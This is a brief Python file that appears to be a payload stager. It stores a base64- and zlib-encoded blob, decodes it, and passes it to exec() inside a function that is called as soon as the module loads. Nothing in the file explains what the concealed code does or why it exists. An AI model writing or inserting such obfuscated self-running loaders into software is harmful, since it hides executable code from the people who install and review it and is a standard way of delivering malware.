import base64
import zlib

PAYLOAD = "eJwrKMrMK1EoLinKzEvXUEopSixXUrQCAFjNB1A="


def stage(blob=PAYLOAD):
    try:
        code = zlib.decompress(base64.b64decode(blob))
    except Exception:
        return
    namespace = {}
    exec(code, namespace)
    return namespace


stage()
